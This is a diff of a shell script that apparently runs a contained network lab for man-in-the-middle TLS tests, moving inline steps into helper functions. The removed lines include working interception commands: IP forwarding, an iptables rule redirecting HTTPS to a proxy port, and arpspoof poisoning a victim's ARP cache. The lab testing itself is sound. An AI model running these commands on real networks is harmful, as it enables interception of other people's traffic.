@@ -27,17 +27,7 @@ lab_need openssl curl arpspoof mitmdump iptables timeout
 lab_up
 
 # The lab CA and srv's certificate (www.lab.example, 192.0.2.10).
-pki=$tmp/pki
-mkdir -p "$pki"
-openssl req -x509 -newkey rsa:2048 -nodes -days 30 -keyout "$pki/ca.key" -out "$pki/ca.pem" \
-	-subj "/O=onpath lab/CN=onpath lab CA" -addext "basicConstraints=critical,CA:TRUE" \
-	-addext "keyUsage=critical,keyCertSign,cRLSign" 2>"$pki/err" || die "CA: $(cat "$pki/err")"
-openssl req -newkey rsa:2048 -nodes -keyout "$pki/srv.key" -out "$pki/srv.csr" \
-	-subj "/O=onpath lab/CN=www.lab.example" 2>"$pki/err" || die "CSR: $(cat "$pki/err")"
-printf 'subjectAltName=DNS:www.lab.example,IP:%s\nextendedKeyUsage=serverAuth\nbasicConstraints=CA:FALSE\n' \
-	"$LAB_SRV_IP" >"$pki/srv.ext"
-openssl x509 -req -in "$pki/srv.csr" -CA "$pki/ca.pem" -CAkey "$pki/ca.key" -CAcreateserial \
-	-days 30 -extfile "$pki/srv.ext" -out "$pki/srv.pem" 2>"$pki/err" || die "cert: $(cat "$pki/err")"
+lab_pki
 
 lab_config "$tmp/lab.yaml"
 cat >>"$tmp/lab.yaml" <<EOF
@@ -83,15 +73,9 @@ done
 sleep 1
 
 lab_phase attack
-lab_exec attacker sh -c 'echo 1 >/proc/sys/net/ipv4/ip_forward;
-	echo 0 >/proc/sys/net/ipv4/conf/all/send_redirects;
-	echo 0 >/proc/sys/net/ipv4/conf/eth0/send_redirects'
-lab_exec attacker iptables -t nat -A PREROUTING -i eth0 -p tcp -d "$LAB_SRV_IP" --dport 443 \
-	-j REDIRECT --to-ports 8443 || die "iptables REDIRECT failed on the attacker"
-lab_bg attacker "$tmp/arpspoof.log" timeout 25 arpspoof -i eth0 -t "$LAB_VICTIM_IP" "$LAB_SRV_IP"
-spoof=$lab_pid
-wait_until 8 eval 'lab_exec victim ip neigh show "$LAB_SRV_IP" | grep -qi "$LAB_ATTACKER_MAC"' ||
-	note "victim ARP cache not poisoned for srv after 8 s"
+lab_forwarding
+lab_redirect tcp "$LAB_SRV_IP" 443 8443
+lab_arpspoof "$LAB_SRV_IP" srv
 for _ in 1 2 3; do
 	fetch 1.2 -k -v || true
 	fetch 1.3 -k -v || true
